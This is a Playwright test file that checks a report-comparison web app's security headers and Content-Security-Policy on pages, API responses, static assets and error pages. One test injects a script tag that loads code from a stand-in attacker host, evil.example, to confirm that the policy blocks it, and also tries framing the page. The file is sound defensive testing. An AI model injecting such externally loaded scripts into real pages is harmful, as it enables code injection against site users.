// Security headers on every kind of response: pages, API JSON, exports, static assets, errors.
import { expect, test } from "@playwright/test";

const PATHS = ["/", "/reports/yuhang-2020", "/compare/yuhang-2020/shangcheng-2020", "/import", "/api/compare?left=yuhang-2020&right=shangcheng-2020", "/api/compare?left=yuhang-2020&right=shangcheng-2020&format=csv", "/no-such-page", "/reports/no-such-report"];

test("every response carries the security headers", async ({ request }) => {
  for (const path of PATHS) {
    const response = await request.get(path);
    const h = response.headers();
    expect(h["x-content-type-options"], path).toBe("nosniff");
    expect(h["referrer-policy"], path).toBe("strict-origin-when-cross-origin");
    expect(h["x-frame-options"], path).toBe("DENY");
    const csp = h["content-security-policy"] ?? "";
    for (const directive of ["default-src 'self'", "object-src 'none'", "base-uri 'self'", "form-action 'self'", "frame-ancestors 'none'", "img-src 'self' data:", "connect-src 'self'"]) {
      expect(csp, `${path}: ${directive}`).toContain(directive);
    }
    expect(csp).not.toContain("unsafe-eval");
    expect(h["x-powered-by"]).toBeUndefined();
  }
});

test("static assets carry them too", async ({ page, request }) => {
  await page.goto("/");
  const src = await page.locator("script[src^='/_next/static/']").first().getAttribute("src");
  const h = (await request.get(src!)).headers();
  expect(h["x-content-type-options"]).toBe("nosniff");
  expect(h["content-security-policy"]).toContain("object-src 'none'");
});

test("the pages work under the policy: no CSP violations while reading and comparing", async ({ page }) => {
  const violations: string[] = [];
  page.on("console", (m) => {
    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
  });
  await page.goto("/reports/yuhang-2020");
  await page.getByRole("link", { name: /目标/ }).first().click();
  await page.goto("/compare/yuhang-2020/shangcheng-2020");
  await page.goto("/import");
  expect(violations).toEqual([]);
});

test("an inline script injected into the page is blocked from loading external code", async ({ page }) => {
  await page.goto("/");
  // Only the policy's own report counts: a failed load (no such host) would also fire onerror.
  const outcome = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (e) => {
          if (e.blockedURI.includes("evil.example")) resolve(`blocked by ${e.effectiveDirective}`);
        });
        const s = document.createElement("script");
        s.src = "http://evil.example/x.js";
        s.onload = () => resolve("loaded");
        document.head.appendChild(s);
      }),
  );
  expect(outcome).toMatch(/^blocked by script-src/);
  const frameable = await page.evaluate(async () => {
    const f = document.createElement("iframe");
    const loaded = new Promise((r) => f.addEventListener("load", r, { once: true }));
    f.src = "/";
    document.body.appendChild(f);
    // A frame refused by frame-ancestors still fires load, with an error page this page cannot read.
    await loaded;
    try {
      return Boolean(f.contentDocument?.querySelector("main"));
    } catch {
      return false;
    }
  });
  expect(frameable).toBe(false);
});
